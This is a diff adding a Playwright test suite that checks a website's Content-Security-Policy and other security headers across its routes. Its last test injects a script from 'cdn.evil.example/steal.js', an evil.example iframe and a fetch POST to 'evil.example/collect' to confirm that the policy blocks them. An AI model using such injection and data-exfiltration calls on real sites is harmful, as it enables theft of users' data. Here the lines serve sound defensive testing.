@@ -1,0 +1,120 @@
+import { test, expect } from './fixtures';
+import { watchCspViolations } from './csp';
+import type { Page } from '@playwright/test';
+
+const ROUTES = ['/home', '/services', '/mhv-care', '/about', '/contact', '/krada', '/teachings', '/Products', '/directory'];
+const NOT_FOUND = '/no-such-page';
+
+function directives(policy: string | undefined): Map<string, string[]> {
+  const map = new Map<string, string[]>();
+  for (const part of (policy ?? '').split(';')) {
+    const [name, ...values] = part.trim().split(/\s+/);
+    if (name) map.set(name.toLowerCase(), values);
+  }
+  return map;
+}
+
+function expectSecurityHeaders(headers: Record<string, string>, where: string) {
+  const csp = directives(headers['content-security-policy']);
+  expect(csp.get('default-src'), where).toEqual(["'self'"]);
+  expect(csp.get('script-src'), where).toEqual(["'self'", "'unsafe-inline'"]);
+  expect(csp.get('connect-src'), where).toEqual(["'self'", 'https://api.paystack.co']);
+  expect(csp.get('frame-src'), where).toEqual(['https://checkout.paystack.com', 'https://www.youtube-nocookie.com']);
+  expect(csp.get('object-src'), where).toEqual(["'none'"]);
+  expect(csp.get('base-uri'), where).toEqual(["'self'"]);
+  expect(csp.get('form-action'), where).toEqual(["'self'"]);
+  expect(csp.get('frame-ancestors'), where).toEqual(["'none'"]);
+
+  const maxAge = Number(/max-age=(\d+)/.exec(headers['strict-transport-security'] ?? '')?.[1]);
+  expect(maxAge, where).toBeGreaterThanOrEqual(365 * 24 * 60 * 60);
+  expect(headers['x-content-type-options'], where).toBe('nosniff');
+  expect(headers['referrer-policy'], where).toBe('strict-origin-when-cross-origin');
+  const permissions = (headers['permissions-policy'] ?? '').split(',').map((entry) => entry.trim());
+  expect(permissions, where).toContain('payment=("https://checkout.paystack.com")');
+  expect(headers['x-powered-by'], where).toBeUndefined();
+}
+
+// No network on the test machine: anything off-site answers with an empty page, after the CSP has had its say.
+async function stubOffsite(page: Page, baseURL: string | undefined) {
+  const origin = new URL(baseURL ?? 'http://localhost').origin;
+  await page.route(
+    (url) => url.origin !== origin,
+    (route) => route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>stub</title>' }),
+  );
+}
+
+test.describe('security headers', () => {
+  test('every route, the 404 page, the / redirect and the static assets carry them', async ({ request }) => {
+    for (const path of ROUTES) {
+      const response = await request.get(path);
+      expect(response.status(), path).toBe(200);
+      expectSecurityHeaders(response.headers(), path);
+    }
+
+    const missing = await request.get(NOT_FOUND);
+    expect(missing.status()).toBe(404);
+    expectSecurityHeaders(missing.headers(), NOT_FOUND);
+
+    const redirect = await request.get('/', { maxRedirects: 0 });
+    expect(redirect.status()).toBe(307);
+    expectSecurityHeaders(redirect.headers(), '/');
+
+    const html = await (await request.get('/home')).text();
+    const asset = /\/_next\/static\/[^"']+\.(?:js|css)/.exec(html)?.[0];
+    expect(asset, 'a static asset linked from /home').toBeTruthy();
+    const assetResponse = await request.get(asset!);
+    expect(assetResponse.status()).toBe(200);
+    expectSecurityHeaders(assetResponse.headers(), asset!);
+  });
+});
+
+test.describe('pages load without a CSP violation', () => {
+  for (const path of [...ROUTES, NOT_FOUND]) {
+    test(path, async ({ page, baseURL }) => {
+      const csp = await watchCspViolations(page);
+      await stubOffsite(page, baseURL);
+      const response = await page.goto(path, { waitUntil: 'load' });
+      expect(response?.status()).toBe(path === NOT_FOUND ? 404 : 200);
+      await expect(page.locator('main#main')).toBeVisible();
+      csp.assertNone();
+    });
+  }
+});
+
+test('the policy blocks what the site does not use, the watcher reports it, and Paystack is allowed', async ({ page, baseURL }) => {
+  const csp = await watchCspViolations(page);
+  await stubOffsite(page, baseURL);
+  await page.goto('/home', { waitUntil: 'load' });
+  expect(csp.violations).toEqual([]);
+
+  // Allowed: Paystack's checkout frame and API, a youtube-nocookie embed.
+  await page.evaluate(async () => {
+    for (const src of ['https://checkout.paystack.com/popup', 'https://www.youtube-nocookie.com/embed/x']) {
+      const frame = document.createElement('iframe');
+      frame.src = src;
+      document.body.append(frame);
+      await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
+    }
+    await fetch('https://api.paystack.co/checkout/request_inline', { method: 'POST', body: '{}' }).catch(() => undefined);
+  });
+  expect(csp.violations).toEqual([]);
+
+  // Blocked: a foreign script, a foreign frame, a call home to another host, a plugin.
+  await page.evaluate(async () => {
+    const script = document.createElement('script');
+    script.src = 'https://cdn.evil.example/steal.js';
+    document.head.append(script);
+    const frame = document.createElement('iframe');
+    frame.src = 'https://evil.example/';
+    document.body.append(frame);
+    await fetch('https://evil.example/collect', { method: 'POST', body: 'cart' }).catch(() => undefined);
+    const plugin = document.createElement('object');
+    plugin.data = '/home';
+    document.body.append(plugin);
+  });
+  await expect.poll(() => csp.violations.join('\n')).toMatch(/script-src/);
+  await expect.poll(() => csp.violations.join('\n')).toMatch(/frame-src/);
+  await expect.poll(() => csp.violations.join('\n')).toMatch(/connect-src/);
+  await expect.poll(() => csp.violations.join('\n')).toMatch(/object-src/);
+  expect(() => csp.assertNone()).toThrow();
+});
